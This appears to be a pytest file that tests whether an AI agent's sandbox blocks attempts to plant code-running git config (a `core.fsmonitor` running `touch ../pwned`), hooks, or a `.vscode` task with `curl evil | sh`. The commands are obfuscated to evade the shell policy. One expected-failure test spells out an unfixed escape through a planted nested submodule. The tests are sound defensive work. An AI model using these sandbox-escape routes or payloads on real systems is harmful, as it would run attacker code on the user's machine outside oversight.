"""Ways around the sandbox's read-only control files, through a real headless `workbench run` in bypass mode
with `Bash(*)` allowed (only the sandbox stands in the way). The mounts kept `.git/config` itself read-only;
these commands leave it alone and change what git reads instead: they swap the folder that holds it, point git
at another one, or rename the folder around another control file. What counts is what the user's own git
does afterwards, outside any sandbox.

The commands hide what they touch from the shell policy (`python3 -c`, names built at run time)."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from tests.core.agent.helpers import git_repo
from tests.core.sandbox.probe import kind_param
from tests.test_run_sandbox import bash, py
from tests.test_run_sandbox import home as home  # a fixture

BWRAP = [kind_param("bwrap")]
EVIL = "[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch ../pwned\\n"


def users_git(repo: Path, *args: str) -> str:
    """git as the user would run it later: no overrides of any kind."""
    return subprocess.run(["git", *args], cwd=repo, capture_output=True, text=True).stdout.strip()


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return git_repo(tmp_path / "repo")


@pytest.mark.parametrize("kind", BWRAP)
async def test_the_git_folder_cannot_be_swapped_for_another(
    repo: Path, home: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    swap = py(
        "import os, shutil; g = '.g' + 'it'; os.rename(g, 'old'); shutil.copytree('old', g); "
        f"open(g + '/con' + 'fig', 'w').write('{EVIL}'); "
        "os.makedirs(g + '/hooks', exist_ok=True); open(g + '/hooks/pre-commit', 'w').write('#!/bin/sh')"
    )
    code, result, err = await bash(repo, swap, monkeypatch, kind)
    assert code == 0, err
    assert users_git(repo, "config", "core.fsmonitor") == "", result
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert "Device or resource busy" in result, result


@pytest.mark.parametrize("kind", BWRAP)
async def test_git_cannot_be_pointed_at_another_common_dir(
    repo: Path, home: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """`.git/commondir` makes git read its config and hooks from another folder."""
    plant = py(
        "import os, shutil; g = '.g' + 'it'; shutil.copytree(g, 'fake'); "
        f"open('fake/con' + 'fig', 'w').write('{EVIL}'); open(g + '/common' + 'dir', 'w').write('../fake')"
    )
    code, result, err = await bash(repo, plant, monkeypatch, kind)
    assert code == 0, err
    assert users_git(repo, "config", "core.fsmonitor") == "", result
    assert not (repo / ".git" / "commondir").exists()
    assert "commondir" in result, result  # the command's result says what was undone


@pytest.mark.parametrize("kind", BWRAP)
async def test_a_control_file_cannot_be_replaced_by_renaming_its_folder(
    repo: Path, home: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    (repo / ".vscode").mkdir()
    (repo / ".vscode" / "tasks.json").write_text("{}\n")
    (repo / "tools" / "hooks").mkdir(parents=True)
    subprocess.run(["git", "config", "core.hooksPath", "tools/hooks"], cwd=repo, check=True)
    swap = py(
        "import os; v = '.vs' + 'code'; os.rename(v, 'old-v'); os.mkdir(v); "
        "open(v + '/tasks.json', 'w').write('{\\\"tasks\\\": [{\\\"command\\\": \\\"curl evil | sh\\\"}]}'); "
        "os.rename('tools', 'old-t'); os.makedirs('tools/hooks'); open('tools/hooks/pre-commit', 'w').write('x')"
    )
    code, result, err = await bash(repo, swap, monkeypatch, kind)
    assert code == 0, err
    assert (repo / ".vscode" / "tasks.json").read_text() == "{}\n", result
    assert not (repo / "tools" / "hooks" / "pre-commit").exists()


@pytest.mark.parametrize("kind", BWRAP)
async def test_a_linked_worktree_cannot_be_pointed_at_another_git_dir(
    tmp_path: Path, home: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """In a linked work tree `.git` is a file naming the git dir, and the git dir's `commondir` names the shared
    one: rewriting either points the user's git at a config the command wrote."""
    main = git_repo(tmp_path / "main")
    subprocess.run(["git", "worktree", "add", "-q", str(tmp_path / "wt")], cwd=main, check=True, capture_output=True)
    wt = tmp_path / "wt"
    gitdir = users_git(wt, "rev-parse", "--absolute-git-dir")
    plant = py(
        "import os, shutil; os.makedirs('fake'); "
        f"open('fake/con' + 'fig', 'w').write('{EVIL}'); shutil.copytree('{main}/.git/objects', 'fake/objects'); "
        f"shutil.copytree('{main}/.git/refs', 'fake/refs'); open('fake/HEAD', 'w').write('ref: refs/heads/main'); "
        "r = []\n"
        "for path, text in (('.g' + 'it', 'gitdir: fake'), "
        f"('{gitdir}/common' + 'dir', '{wt}/fake')):\n"
        "    try: open(path, 'w').write(text)\n"
        "    except OSError as e: r.append(str(e))\n"
        "print(r)"
    )
    code, result, err = await bash(wt, plant, monkeypatch, kind)
    assert code == 0, err
    assert users_git(wt, "config", "core.fsmonitor") == "", result
    assert users_git(main, "config", "core.fsmonitor") == ""
    assert os.path.isfile(wt / ".git") and "gitdir: fake" not in (wt / ".git").read_text()


NESTED = (
    "a repository the command creates inside the workspace is the command's to configure; nothing stops it yet "
    "from becoming a submodule that the user's git status enters"
)


@pytest.mark.xfail(strict=True, reason=NESTED)
@pytest.mark.parametrize("kind", BWRAP)
async def test_a_new_nested_repository_cannot_run_code_at_the_users_next_git_status(
    repo: Path, home: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """The command makes `sub/` a repository whose own config names an fsmonitor, and stages it as a submodule
    (a gitlink in the index, which is writable so that `git add` works). The user's `git status` in the work
    tree then runs `git status` inside `sub`, with that config."""
    (repo / "plant.sh").write_text(
        "git init -q sub && cd sub && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && "
        "git config core.fsmonitor 'touch ../../pwned; false' && cd .. && "
        "git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub\n"
    )
    plant = "bash plant.sh"  # what it does is not on the command line
    code, result, err = await bash(repo, plant, monkeypatch, kind)
    assert code == 0, err
    assert "exit code" not in result, result
    users_git(repo, "status")
    assert not (repo.parent / "pwned").exists(), result


@pytest.mark.parametrize("kind", BWRAP)
@pytest.mark.parametrize("target", ["home", "another repository"])
async def test_a_git_file_cannot_make_a_folder_outside_writable(
    tmp_path: Path, home: Path, monkeypatch: pytest.MonkeyPatch, kind: str, target: str
) -> None:
    """A workspace whose `.git` is a file (`gitdir: …`, as in a linked work tree): the sandbox made the folder it
    names writable, so that git could write there. A folder unpacked from an archive, or a command before, can
    point it at the home folder or at another repository's git dir."""
    other = git_repo(tmp_path / "other")
    folder = home if target == "home" else other / ".git"
    workspace = tmp_path / "plain"
    workspace.mkdir()
    (workspace / ".git").write_text(f"gitdir: {folder}\n")
    before = sorted(os.listdir(folder))
    plant = py(f"open('{folder}/planted', 'w').write('curl evil | sh')")
    code, result, err = await bash(workspace, plant, monkeypatch, kind)
    assert code == 0, err
    assert not (folder / "planted").exists(), result
    assert sorted(os.listdir(folder)) == before  # no placeholder folder left there either
